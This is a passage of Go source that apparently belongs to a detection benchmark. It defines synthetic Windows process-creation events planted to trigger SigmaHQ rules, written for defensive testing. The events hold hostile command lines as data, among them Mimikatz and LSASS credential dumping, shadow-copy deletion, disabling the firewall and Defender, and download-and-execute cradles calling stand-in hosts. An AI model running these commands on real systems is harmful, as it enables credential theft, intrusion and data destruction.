	b.WriteString("</EventData><RenderingInfo Culture='en-US'><Message>A new process has been created.</Message><Level>Information</Level><Task>Process Creation</Task><Opcode>Info</Opcode><Channel>Security</Channel><Provider>Microsoft Windows security auditing.</Provider><Keywords><Keyword>Audit Success</Keyword></Keywords></RenderingInfo></Event>\n")
}

func or(s, def string) string {
	if s == "" {
		return def
	}
	return s
}

// SigmaPlants are the attacks the Sigma benchmark plants: each written by
// hand from the detection of the SigmaHQ rule it names (rules/windows/
// process_creation), the way the tool or technique is used in the wild. Many
// also match other rules of the corpus, as real attacks do; the benchmark
// reports those.
var SigmaPlants = []Plant{
	{Rule: "a642964e-bead-4bed-8910-1bb4d63e3b4d", Title: "HackTool - Mimikatz Execution",
		Image: `C:\Users\Public\m64.exe`, CommandLine: `m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit`},
	{Rule: "c947b146-0abc-4c87-9c64-b17e9d7274a2", Title: "Shadow Copies Deletion Using Operating Systems Utilities",
		Image: sys32 + `vssadmin.exe`, OriginalFileName: "VSSADMIN.EXE", CommandLine: `vssadmin.exe Delete Shadows /All /Quiet`},
	{Rule: "fd877b94-9bb5-4191-bb25-d79cbd93c167", Title: "Dumping of Sensitive Hives Via Reg.EXE",
		Image: sys32 + `reg.exe`, OriginalFileName: "reg.exe", CommandLine: `reg.exe save hklm\sam C:\ProgramData\sam.save`},
	{Rule: "5afee48e-67dd-4e03-a783-f74259dcf998", Title: "Potential LSASS Process Dump Via Procdump",
		Image: `C:\Users\Public\pd64.exe`, CommandLine: `pd64.exe -accepteula -ma lsass.exe C:\Windows\Temp\out.dmp`},
	{Rule: "ca2092a1-c273-4878-9b4b-0d60115bf5ea", Title: "Suspicious Encoded PowerShell Command Line",
		Image: powershell, OriginalFileName: "PowerShell.EXE", ParentImage: explorer, ParentCommandLine: `C:\Windows\Explorer.EXE`,
		CommandLine: `powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==`},
	{Rule: "85ff530b-261d-48c6-a441-facaa2e81e48", Title: "New Service Creation Using Sc.EXE",
		Image: sys32 + `sc.exe`, OriginalFileName: "sc.exe", CommandLine: `sc.exe create UpdaterSvc binPath= "C:\ProgramData\upd\svc.exe" start= auto`},
	{Rule: "57c4bf16-227f-4394-8ec7-1b745ee061c3", Title: "Firewall Disabled via Netsh.EXE",
		Image: sys32 + `netsh.exe`, OriginalFileName: "netsh.exe", CommandLine: `netsh advfirewall set allprofiles state off`},
	{Rule: "f376c8a7-a2d0-4ddc-aa0c-16c17236d962", Title: "HackTool - Bloodhound/Sharphound Execution",
		Image: `C:\Users\Public\SharpHound.exe`, CommandLine: `SharpHound.exe -c All -d corp.example --zipfilename loot.zip`},
	{Rule: "cc9cbe82-7bc0-4ef5-bc23-bbfb83947be7", Title: "File Decoded From Base64/Hex Via Certutil.EXE",
		Image: sys32 + `certutil.exe`, OriginalFileName: "CertUtil.exe", CommandLine: `certutil.exe -decode C:\Users\Public\enc.txt C:\Users\Public\payload.dll`},
	{Rule: "67f113fa-e23d-4271-befa-30113b3e08b1", Title: "Suspicious JavaScript Execution Via Mshta.EXE",
		Image: sys32 + `mshta.exe`, OriginalFileName: "MSHTA.EXE", CommandLine: `mshta.exe javascript:a=(GetObject("script:C:/ProgramData/x.sct")).Exec();close();`},
	{Rule: "4ae81040-fc1c-4249-bfa3-938d260214d9", Title: "Use Icacls to Hide File to Everyone",
		Image: sys32 + `icacls.exe`, OriginalFileName: "iCACLS.EXE", CommandLine: `icacls "C:\ProgramData\37f92fe8" /deny *S-1-1-0:(OI)(CI)(DE,DC)`},
	{Rule: "17769c90-230e-488b-a463-e05c08e9d48f", Title: "Powershell Defender Exclusion",
		Image: powershell, OriginalFileName: "PowerShell.EXE", CommandLine: `powershell.exe -Command Add-MpPreference -ExclusionPath C:\ProgramData\upd`},
	{Rule: "b9f0e6f5-09b4-4358-bae4-08408705bd5c", Title: "New User Created Via Net.EXE With Never Expire Option",
		Image: sys32 + `net.exe`, OriginalFileName: "net.exe", CommandLine: `net.exe user support_adm Winter2026! /add /expires:never`},
	{Rule: "4281cb20-2994-4580-aa63-c8b86d019934", Title: "Hiding Files with Attrib.exe",
		Image: sys32 + `attrib.exe`, OriginalFileName: "ATTRIB.EXE", CommandLine: `attrib.exe +h +s C:\ProgramData\upd\svc.exe`},
	{Rule: "19b08b1c-861d-4e75-a1ef-ea0c1baf202b", Title: "Suspicious Download Via Certutil.EXE",
		Image: sys32 + `certutil.exe`, OriginalFileName: "CertUtil.exe", CommandLine: `certutil.exe -urlcache -split -f http://update.example.invalid/a.exe C:\Users\Public\a.exe`},
	{Rule: "1444443e-6757-43e4-9ea4-c8fc705f79a2", Title: "Boot Configuration Tampering Via Bcdedit.EXE",
		Image: sys32 + `bcdedit.exe`, OriginalFileName: "bcdedit.exe", CommandLine: `bcdedit.exe /set {default} recoveryenabled No`},
	{Rule: "c248c896-e412-4279-8c15-1c558067b6fa", Title: "Enumerate All Information With Whoami.EXE",
		Image: sys32 + `whoami.exe`, OriginalFileName: "whoami.exe", CommandLine: `whoami.exe /all`},
	{Rule: "646ea171-dded-4578-8a4d-65e9822892e3", Title: "Process Memory Dump Via Comsvcs.DLL",
		Image: rundll32, OriginalFileName: "RUNDLL32.EXE", CommandLine: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\out.dmp full`},
	{Rule: "85b0b087-eddf-4a2b-b033-d771fa2b9775", Title: "PowerShell Download and Execution Cradles",
		Image: powershell, OriginalFileName: "PowerShell.EXE", CommandLine: `powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString('http://update.example.invalid/a.ps1')"`},
	{Rule: "2dd2c217-bf68-437a-b57c-fe9fd01d5de8", Title: "Potentially Suspicious Regsvr32 HTTP IP Pattern",
		Image: sys32 + `regsvr32.exe`, OriginalFileName: "REGSVR32.EXE", CommandLine: `regsvr32.exe /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll`},
	{Rule: "d059842b-6b9d-4ed1-b5c3-5b89143c6ede", Title: "File Download Via Bitsadmin",
		Image: sys32 + `bitsadmin.exe`, OriginalFileName: "bitsadmin.exe", CommandLine: `bitsadmin.exe /transfer myjob /download /priority high http://update.example.invalid/a.exe C:\Users\Public\a.exe`},
	{Rule: "5cc90652-4cbd-4241-aa3b-4b462fa5a248", Title: "Potential Recon Activity Via Nltest.EXE",
		Image: sys32 + `nltest.exe`, OriginalFileName: "nltestrk.exe", CommandLine: `nltest.exe /domain_trusts /all_trusts`},
	{Rule: "7ec2c172-dceb-4c10-92c9-87c1881b7e18", Title: "HackTool - Rubeus Execution",
		Image: `C:\Users\Public\Rubeus.exe`, CommandLine: `Rubeus.exe kerberoast /outfile:C:\Users\Public\h.txt`},
	{Rule: "2afafd61-6aae-4df4-baed-139fa1f4c345", Title: "Invocation of Active Directory Diagnostic Tool (ntdsutil.exe)",
		Image: sys32 + `ntdsutil.exe`, OriginalFileName: "ntdsutil.exe", CommandLine: `ntdsutil.exe "ac i ntds" "ifm" "create full c:\temp\ntds" q q`},
	{Rule: "9a132afa-654e-11eb-ae93-0242ac130002", Title: "PUA - AdFind Suspicious Execution",
		Image: `C:\Users\Public\AdFind.exe`, CommandLine: `AdFind.exe -f objectcategory=computer -csv name operatingSystem`},
	{Rule: "54786ddc-5b8a-11ed-9b6a-0242ac120002", Title: "Suspicious Ping/Del Command Combination",
		Image: cmd, OriginalFileName: "Cmd.Exe", CommandLine: `"C:\Windows\System32\cmd.exe" /C ping 127.0.0.7 -n 3 > Nul & Del /f /q "C:\Users\Public\a.exe"`},
	{Rule: "92626ddd-662c-49e3-ac59-f6535f12d189", Title: "Scheduled Task Creation Via Schtasks.EXE",
		Image: sys32 + `schtasks.exe`, OriginalFileName: "schtasks.exe", CommandLine: `schtasks.exe /create /sc minute /mo 30 /tn "Updater" /tr "C:\ProgramData\upd\svc.exe" /f`},
	{Rule: "438025f9-5856-4663-83f7-52f878a70a50", Title: "Suspicious Microsoft Office Child Process",
		Image: sys32 + `wscript.exe`, OriginalFileName: "wscript.exe", ParentImage: winword,
		ParentCommandLine: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\Public\Downloads\invoice.doc"`,
		CommandLine:       `"C:\Windows\System32\WScript.exe" C:\Users\Public\Downloads\invoice.vbs`},
	{Rule: "7773b877-5abb-4a3e-b9c9-fd0369b59b00", Title: "WMIC Remote Command Execution",
		Image: sys32 + `wbem\WMIC.exe`, OriginalFileName: "wmic.exe", CommandLine: `wmic.exe /node:10.1.4.20 process call create "C:\ProgramData\upd\svc.exe"`},
}

const sys32 = `C:\Windows\System32\`
